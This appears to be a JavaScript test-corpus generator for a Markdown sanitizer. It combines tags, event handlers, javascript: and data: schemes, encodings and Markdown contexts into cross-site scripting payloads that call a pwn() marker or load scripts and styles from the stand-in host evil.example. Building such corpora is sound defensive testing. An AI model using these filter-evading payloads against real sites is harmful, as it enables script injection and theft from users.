// Markup that tries to become script: our own products of tags, events, schemes, ways of writing and places in a Markdown text.
// Each payload calls `pwn()` if it ever runs, or asks evil.example for something.

const tags = [
    "script", "img", "svg", "iframe", "object", "embed", "form", "input", "button", "details", "video", "audio", "source", "body", "style",
    "link", "meta", "base", "math", "marquee", "a", "area", "table", "td", "select", "textarea", "template", "noscript", "frameset", "dialog",
    "picture", "track", "animate", "set", "use", "slot", "portal", "foreignObject", "x-y", "b",
];

const events = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle", "onpointerover", "onbegin", "onend",
    "onpageshow", "onhashchange", "onscroll", "oninput", "onchange", "onsubmit", "onkeydown", "onwheel", "onauxclick", "oncopy", "onpaste",
    "ondrag", "onmessage", "onresize", "onstorage", "onunload", "onbeforeinput", "onreadystatechange", "oncontentvisibilityautostatechange",
];

const writings = [
    (tag, event) => `<${tag} ${event}=pwn() src=//evil.example/x autofocus tabindex=0 open>`,
    (tag, event) => `<${tag.toUpperCase()}/${event.toUpperCase()}="pwn()"/href="//evil.example/x"></${tag}>`,
    (tag, event) => `text <${tag}\n${event}\t=\n'pwn()' x='>`,
];

const schemes = [
    "javascript:pwn()", "vbscript:pwn()", "data:text/html,<script>parent.pwn()</script>", "data:image/svg+xml,<svg onload=pwn()>",
    "feed:javascript:pwn()", "view-source:javascript:pwn()", "blob:pwn()", "livescript:pwn()",
];

const each = (text, change) => [...text].map(change).join("");
const atColon = (text, change) => text.replace(":", change);
const encodings = [
    (s) => s,
    (s) => s.toUpperCase().replace("PWN", "pwn"),
    (s) => each(s, (c, at = 0) => (at % 2 ? c : c.toUpperCase())),
    (s) => `${s.slice(0, 4)}\t${s.slice(4)}`,
    (s) => `${s.slice(0, 4)}\n${s.slice(4)}`,
    (s) => ` \u0001${s}`,
    (s) => `${s.slice(0, 2)}\u200b${s.slice(2)}`,
    (s) => `${s.slice(0, 4)}\u0000${s.slice(4)}`,
    (s) => each(s, (c) => `&#${c.codePointAt(0)};`),
    (s) => each(s, (c) => `&#x${c.codePointAt(0).toString(16)};`),
    (s) => each(s, (c) => `&#${String(c.codePointAt(0)).padStart(7, "0")};`),
    (s) => atColon(s, "&colon;"),
    (s) => atColon(s, "&#58;"),
    (s) => `&Tab;${s.slice(0, 4)}&NewLine;${s.slice(4)}`,
    (s) => each(s, (c) => `%${c.codePointAt(0).toString(16).padStart(2, "0")}`),
    (s) => s.replace(/[():]/g, "\\$&"),
    (s) => each(s, (c) => (/[a-z]/.test(c) ? String.fromCodePoint(c.codePointAt(0) + 0xfee0) : c)),
    (s) => `\u00a0\u202e${s}`,
];

const places = [
    (s) => `[x](${s})`, (s) => `[x](<${s}>)`, (s) => `![x](${s})`, (s) => `<${s}>`, (s) => `[x]: ${s}\n\n[x]`, (s) => `[x][y]\n\n[y]: <${s}> "t"`,
    (s) => `[x](${s} "t")`, (s) => `[![x](${s})](${s})`, (s) => `- [x](${s})`, (s) => `> [x](${s})`, (s) => `# [x](${s})`, (s) => `**[x](${s})**`,
    (s) => `<a href="${s}">x</a>`, (s) => `<img src='${s}' onerror=pwn()>`, (s) => `<iframe src="${s}"></iframe>`, (s) => `<form action="${s}"><button>x`,
    (s) => `<svg><a xlink:href="${s}"><text>x</text></a></svg>`, (s) => `<object data="${s}"></object>`, (s) => `<base href="${s}//">`,
    (s) => `<meta http-equiv=refresh content="0;url=${s}">`, (s) => `<link rel=stylesheet href="${s}">`, (s) => `<math href="${s}">x</math>`,
];

const shapes = [
    "<script>pwn()</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=pwn()>", "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>", "<details open ontoggle=pwn()>", "<input autofocus onfocus=pwn()>", "<style>@import '//evil.example/x'</style>",
    "<style onload=pwn()></style>", "<body onload=pwn()>", "<!--><img src=x onerror=pwn()>-->", "<![CDATA[<img src=x onerror=pwn()>]]>", "<?x <img src=x onerror=pwn()>?>",
    "</div></main><img src=x onerror=pwn()>", "\"><img src=x onerror=pwn()>", "'-pwn()-'", "`-alert(pwn())-`", "${pwn()}", "{{constructor.constructor('pwn()')()}}",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=pwn()>", "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
    "<template><img src=x onerror=pwn()></template>", "<a href=# onclick=pwn() style=position:fixed;inset:0>x</a>",
];

const disguises = [
    (s) => s,
    (s) => s.replaceAll("<", "&lt;"),
    (s) => s.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;"),
    (s) => s.replaceAll("<", "\\<"),
    (s) => s.replaceAll(" ", "\u000c"),
    (s) => s.replaceAll("<", "<\u0000"),
    (s) => s.replaceAll(">", ""),
    (s) => s.replaceAll("<", "＜"),
    (s) => encodeURIComponent(s),
    (s) => s.replaceAll("=", "\n=\n"),
];

const contexts = [
    (s) => s, (s) => `Text ${s} Text`, (s) => `\n\n${s}\n\n`, (s) => `> ${s}`, (s) => `- ${s}\n  - ${s}`, (s) => `# ${s}`, (s) => `\`${s}\``, (s) => `\`\`\`${s}\n${s}\n\`\`\``,
    (s) => `    ${s}`, (s) => `**${s}** *${s}*`, (s) => `[${s}](https://evil.example/${s})`, (s) => `![${s}](https://evil.example/x.png "${s}")`, (s) => `<div>\n${s}\n\n${s}</div>`,
];

/** All payloads, by class. */
export function payloads() {
    const made = { "tag × event × writing": [], "scheme × encoding × place": [], "shape × disguise × context": [] };
    const [first, second, third] = Object.values(made);
    for (const tag of tags) for (const event of events) for (const write of writings) first.push(write(tag, event));
    for (const scheme of schemes) for (const encode of encodings) for (const put of places) second.push(put(encode(scheme)));
    for (const shape of shapes) for (const disguise of disguises) for (const put of contexts) third.push(put(disguise(shape)));
    return made;
}
